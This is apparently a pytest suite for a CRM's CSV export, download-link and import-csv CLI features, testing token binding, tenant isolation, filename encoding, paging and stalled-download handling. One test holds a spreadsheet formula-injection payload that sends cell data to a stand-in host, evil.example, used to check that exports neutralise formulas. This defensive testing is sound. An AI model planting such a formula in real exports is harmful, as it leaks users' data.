"""CSV over the wire and on the command line: the download links, the export/error endpoints, `import-csv`."""

from __future__ import annotations

import csv
import io
import os
import select
import socket
import subprocess
import sys
import time
from pathlib import Path
from urllib.parse import unquote

import httpx
import pytest
from sqlalchemy import text

from app.api.downloads import EXPORT_PATH, error_report_path
from app.services.accounts import auth, tokens
from app.services.crm import contact_search, contacts, custom_fields
from app.services.crm.contact_search import ContactQuery
from app.services.demo import DEMO_SLUG, seed_demo
from app.services.imports import csv_export, csv_import
from models.db import get_engine, session_scope
from tests.scratch_db import ROOT
from tests.test_csv_import import SEED_EXAMPLE, run_import, upload


@pytest.fixture
def owner(make_org):
    principal = make_org("Harbor Dental")
    token = auth.open_session(principal)
    return auth.resolve_session(token), token


def test_export_link_downloads_the_filtered_contacts(api_url, owner):
    principal, _ = owner
    for i, status in enumerate(["lead", "customer", "customer"]):
        contacts.create_contact(
            principal.scope,
            {
                "business_name": f"Biz {i}",
                "contact_name": f"P {i}",
                "contact_email": f"p{i}@x.example",
                "status": status,
            },
        )
    link = auth.download_link(principal, EXPORT_PATH, {"status": "customer", "sort": "name"})
    response = httpx.get(api_url + link)
    assert response.status_code == 200
    assert response.headers["content-disposition"] == 'attachment; filename="contacts.csv"'
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [r[1] for r in rows[1:]] == ["Biz 1", "Biz 2"]


def test_download_links_are_bound_to_their_url_session_and_time(api_url, owner, make_org, monkeypatch):
    principal, session_token = owner
    link = auth.download_link(principal, EXPORT_PATH, {"status": "lead"})
    token = link.split("token=")[1]
    assert httpx.get(f"{api_url}{EXPORT_PATH}?status=customer&token={token}").status_code == 401  # another filter
    assert httpx.get(f"{api_url}{error_report_path('x')}?token={token}").status_code == 401  # another file
    assert httpx.get(f"{api_url}{EXPORT_PATH}?status=lead&token=forged.token.value").status_code == 401
    assert httpx.get(f"{api_url}{EXPORT_PATH}").status_code == 401
    expired = tokens.sign(
        {"sub": str(principal.user_id), "sid": str(principal.session_id), "url": f"{EXPORT_PATH}?status=lead"},
        audience=auth.DOWNLOAD_AUDIENCE,
        ttl_seconds=-5,
    )
    assert httpx.get(f"{api_url}{EXPORT_PATH}?status=lead&token={expired}").status_code == 401
    assert httpx.get(api_url + link).status_code == 200
    auth.close_session(session_token)  # signing out revokes the link
    response = httpx.get(api_url + link)
    assert response.status_code == 401 and "expired" in response.json()["detail"]


def test_members_and_other_organisations_get_nothing(api_url, owner, make_org, make_user):
    principal, _ = owner
    done = run_import(principal.scope, SEED_EXAMPLE.replace("john@acme.com", "bad@"))
    member = auth.resolve_session(auth.open_session(make_user(principal.tenant_id)))
    for path in (EXPORT_PATH, error_report_path(done.id)):
        response = httpx.get(api_url + auth.download_link(member, path))
        assert response.status_code == 403 and "Only organisation admins" in response.text
    other = auth.resolve_session(auth.open_session(make_org("Other")))
    assert httpx.get(api_url + auth.download_link(other, error_report_path(done.id))).status_code == 404
    exported = httpx.get(api_url + auth.download_link(other, EXPORT_PATH)).content.decode("utf-8-sig")
    assert len(list(csv.reader(io.StringIO(exported)))) == 1  # the header only: nothing of Harbor Dental's


def test_error_report_endpoint_with_a_bearer_token(api_url, owner):
    principal, _ = owner
    done = run_import(principal.scope, "business_name,contact_name,contact_email\nA,Ann,bad@\n")
    bearer, _ = auth.issue_api_token(principal)
    response = httpx.get(api_url + error_report_path(done.id), headers={"Authorization": f"Bearer {bearer}"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == ["row", "column", "value", "reason"] and rows[1][:3] == ["2", "contact_email", "bad@"]


def test_spreadsheet_formulas_in_header_labels_and_error_reasons_are_neutralised(api_url, owner):
    principal, _ = owner
    formula = '=HYPERLINK("http://evil.example/?d="&A2,"Click")'
    custom_fields.create_field(principal.scope, label=formula, field_type="number", name="score")
    contacts.create_contact(principal.scope, {"business_name": "Biz", "contact_name": "Ann"})
    exported = httpx.get(api_url + auth.download_link(principal, EXPORT_PATH)).content.decode("utf-8-sig")
    header = next(csv.reader(io.StringIO(exported)))
    assert header[-1] == "'" + formula
    # A row whose custom field is not a number: the reason quotes the label, which starts with "=".
    done = run_import(
        principal.scope,
        "business_name,contact_name,score\nBiz 2,Bo,lots\n",
        mapping=["business_name", "contact_name", "cf:score"],
    )
    report = httpx.get(api_url + auth.download_link(principal, error_report_path(done.id))).content.decode("utf-8-sig")
    reasons = [row[3] for row in csv.reader(io.StringIO(report))][1:]
    assert reasons and all(r.startswith("'=HYPERLINK") for r in reasons), reasons


def test_a_download_named_in_any_script_gets_its_name(api_url, owner):
    """RFC 6266/5987: an ASCII fallback for old clients, the exact UTF-8 name for the others."""
    principal, _ = owner
    view = upload(principal.scope, "business_name,contact_name,contact_email\nA,Ann,bad@\n", name="Клиенты «май».csv")
    csv_import.start(principal.scope, view.id, view.mapping, {"duplicates": "skip"}, enqueue=False)
    csv_import.execute(view.id)
    response = httpx.get(api_url + auth.download_link(principal, error_report_path(view.id)))
    assert response.status_code == 200
    disposition = response.headers["content-disposition"]
    assert disposition.startswith('attachment; filename="') and disposition.isascii()
    encoded = disposition.split("filename*=UTF-8''", 1)[1]
    assert unquote(encoded) == "Клиенты «май»-errors.csv"
    assert (
        'filename="contacts.csv"'
        in httpx.get(api_url + auth.download_link(principal, EXPORT_PATH)).headers["content-disposition"]
    )


@pytest.mark.parametrize("sort", list(contact_search.SORTS))
def test_the_export_pages_through_every_contact_once_in_order(owner, monkeypatch, sort):
    principal, _ = owner
    with session_scope() as s:  # equal sort keys and empty last-contact dates: ties the pages must not split
        s.execute(
            text(
                "INSERT INTO contacts (tenant_id, business_name, contact_name, created_at, last_interaction_at) "
                "SELECT :t, 'Biz ' || (g % 4), 'P', '2026-01-01'::timestamptz + (g % 3) * interval '1 day', "
                "CASE WHEN g % 2 = 0 THEN '2026-02-01'::timestamptz + (g % 5) * interval '1 hour' END "
                "FROM generate_series(1, 23) g"
            ),
            {"t": principal.tenant_id},
        )
    monkeypatch.setattr(csv_export, "PAGE_ROWS", 4)
    rows = list(csv.reader(io.StringIO("".join(csv_export.export_contacts(principal.scope, ContactQuery(sort=sort))))))
    page = contact_search.search_contacts(principal.scope, ContactQuery(sort=sort, per_page=100))
    assert [r[0] for r in rows[1:]] == [str(c.id) for c in page.items] and len(rows) == 24


def _dechunk(body: bytes) -> bytes:
    """An HTTP/1.1 chunked body's content."""
    out, rest = b"", body
    while True:
        size_line, rest = rest.split(b"\r\n", 1)
        size = int(size_line, 16)
        if size == 0:
            return out
        out, rest = out + rest[:size], rest[size + 2 :]


def _stalled_reader(api_url: str, path: str) -> socket.socket:
    """A client that sends its request and then reads nothing (a tiny receive window, never drained)."""
    host, port = api_url.removeprefix("http://").split(":")
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    sock.connect((host, int(port)))
    sock.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
    return sock


def test_forty_stalled_download_readers_hold_no_pooled_connection(api_url, owner):
    """Downloads read a page at a time and give their connection back in between: forty readers that stop
    reading leave the pool (10 + 20 overflow) free, and the API keeps answering."""
    principal, _ = owner
    with session_scope() as s:  # 6 MB of CSV: more than the server's socket buffers take in for a stalled reader
        s.execute(
            text(
                "INSERT INTO contacts (tenant_id, business_name, contact_name, notes) "
                "SELECT :t, 'Biz ' || g, 'P ' || g, repeat('n', 4000) FROM generate_series(1, 1500) g"
            ),
            {"t": principal.tenant_id},
        )
    link = auth.download_link(principal, EXPORT_PATH)
    readers = [_stalled_reader(api_url, link) for _ in range(40)]
    try:
        # Every reader has its download under way (a 200 and the first bytes waiting, unread)...
        deadline = time.monotonic() + 60
        waiting = list(readers)
        while waiting and time.monotonic() < deadline:
            readable, _, _ = select.select(waiting, [], [], 1)
            waiting = [r for r in waiting if r not in readable]
        assert not waiting, f"{len(waiting)} of 40 downloads never started"
        statuses = {r.recv(64, socket.MSG_PEEK).split(b" ", 2)[1] for r in readers}
        assert statuses == {b"200"}
        # ...and once the server has filled their buffers, no connection is checked out for them.
        pool = get_engine().pool
        deadline = time.monotonic() + 60
        while pool.checkedout() and time.monotonic() < deadline:
            time.sleep(0.1)
        assert pool.checkedout() == 0
        bearer, _ = auth.issue_api_token(principal)
        response = httpx.get(f"{api_url}/api/v1/contacts", headers={"Authorization": f"Bearer {bearer}"}, timeout=60)
        assert response.status_code == 200 and response.json()["items"]
        # A reader that resumes gets the whole export.
        first = readers[0]
        first.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 20)
        first.settimeout(60)
        data = b""
        while not data.endswith(b"0\r\n\r\n"):
            chunk = first.recv(1 << 20)
            assert chunk, "the download ended early"
            data += chunk
        exported = _dechunk(data.split(b"\r\n\r\n", 1)[1]).decode("utf-8-sig")
        assert len(list(csv.reader(io.StringIO(exported)))) == 1501
    finally:
        for r in readers:
            r.close()


def _cli(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "app.cli", "import-csv", *args],
        cwd=ROOT,
        env=dict(os.environ),
        capture_output=True,
        text=True,
        timeout=120,
    )


def test_cli_imports_into_the_demo_organisation(tmp_path):
    seed_demo()
    path = tmp_path / "example.csv"
    path.write_text(SEED_EXAMPLE.replace("jane@beta.com", "jane@") + '"Acme Corp","Dup","JOHN@acme.com",,,,,\n')
    result = _cli("--tenant", DEMO_SLUG, str(path), "--quiet")
    assert result.returncode == 0, result.stderr
    assert "Finished" in result.stdout and "1 added" in result.stdout and "1 skipped" in result.stdout
    assert "1 with errors" in result.stdout
    report = result.stdout.split("Error report: ")[1].strip()
    assert "not a valid email address" in Path(report).read_text()
    from app.services.accounts import tenants
    from app.services.accounts.scope import Scope
    from models.db import session_scope

    with session_scope() as s:
        scope = Scope.system(tenants.get_by_slug(s, DEMO_SLUG).id)
    assert contact_search.search_contacts(scope, ContactQuery(q="john@acme.com")).items[0].business_name == "Acme Corp"


@pytest.mark.parametrize(
    "content, reason", [(b"", "The file is empty"), (b"PK\x03\x04" + bytes(300), "Excel workbook")]
)
def test_cli_refuses_a_file_with_a_one_line_reason(tmp_path, content, reason):
    seed_demo()
    path = tmp_path / "in.csv"
    path.write_bytes(content)
    result = _cli("--tenant", DEMO_SLUG, str(path))
    assert result.returncode == 1 and result.stderr.strip().startswith("Refused:") and reason in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1


def test_cli_refuses_an_unknown_organisation(tmp_path):
    path = tmp_path / "in.csv"
    path.write_text(SEED_EXAMPLE)
    result = _cli("--tenant", "no-such-org", str(path))
    assert result.returncode == 1 and "No organisation has the slug “no-such-org”" in result.stderr


def test_cli_refuses_a_missing_file():
    result = _cli("--tenant", DEMO_SLUG, "/nonexistent/file.csv")
    assert result.returncode == 1 and "is not a file" in result.stderr
